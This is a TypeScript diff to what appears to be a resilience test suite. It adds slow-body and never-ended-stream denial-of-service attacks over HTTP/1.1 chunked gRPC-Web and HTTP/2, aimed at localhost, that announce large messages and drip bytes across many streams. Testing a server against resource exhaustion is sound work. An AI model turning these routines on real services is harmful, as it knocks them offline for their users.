@@ -1,5 +1,9 @@
 import { type Attack, CALL, callHeaders } from "./attack.js";
 import { frame, TYPE } from "./frames.js";
+import type { RawConnection } from "./raw-connection.js";
+
+/** The start of a message that needs 65,280 bytes more. */
+const PREFIX = Buffer.from([0, 0, 0, 0xff, 0]);
 
 /** An HTTP/1.1 body that comes byte by byte. */
 export const slowBodyHttp1: Attack = {
@@ -20,6 +24,7 @@ export const slowBodyGrpcWeb: Attack = {
     const type = "Content-Type: application/grpc-web+proto";
     const head = ["Host: localhost", type, "Transfer-Encoding: chunked"];
     await connection.write([`POST ${CALL} HTTP/1.1`, ...head, "", ""].join("\r\n"));
+    await connection.write(Buffer.concat([Buffer.from("5\r\n"), PREFIX, Buffer.from("\r\n")]));
     await drip(connection, () => connection.write("1\r\n\0\r\n"));
   },
 };
@@ -28,16 +33,27 @@ export const slowBodyGrpcWeb: Attack = {
 export const slowBodyHttp2: Attack = {
   name: "slow body, HTTP/2",
   connections: 20,
-  async run(connection) {
-    await connection.begin();
-    const ids = Array.from({ length: 20 }, (_, i) => 2 * i + 1);
-    await connection.write(Buffer.concat(ids.map((id) => callHeaders(id))), ids.length);
-    const bytes = Buffer.concat(ids.map((id) => frame(TYPE.data, 0, id, Buffer.alloc(1))));
-    await drip(connection, () => connection.write(bytes, ids.length));
-  },
+  run: (connection) => dripOnStreams(connection, PREFIX),
 };
 
-async function drip(connection: Parameters<Attack["run"]>[0], drop: () => Promise<void>) {
+/** Whole messages on streams that the client never ends. */
+export const unendedStreams: Attack = {
+  name: "calls never ended, HTTP/2",
+  connections: 20,
+  run: (connection) => dripOnStreams(connection, Buffer.alloc(5)),
+};
+
+async function dripOnStreams(connection: RawConnection, start: Buffer): Promise<void> {
+  await connection.begin();
+  const ids = Array.from({ length: 20 }, (_, i) => 2 * i + 1);
+  const onEach = (bytes: Buffer) => ids.map((id) => frame(TYPE.data, 0, id, bytes));
+  const heads = Buffer.concat([...ids.map((id) => callHeaders(id)), ...onEach(start)]);
+  await connection.write(heads, ids.length);
+  const drops = Buffer.concat(onEach(Buffer.alloc(1)));
+  await drip(connection, () => connection.write(drops, ids.length));
+}
+
+async function drip(connection: RawConnection, drop: () => Promise<void>) {
   while (connection.going) {
     await drop();
     await connection.wait(200);
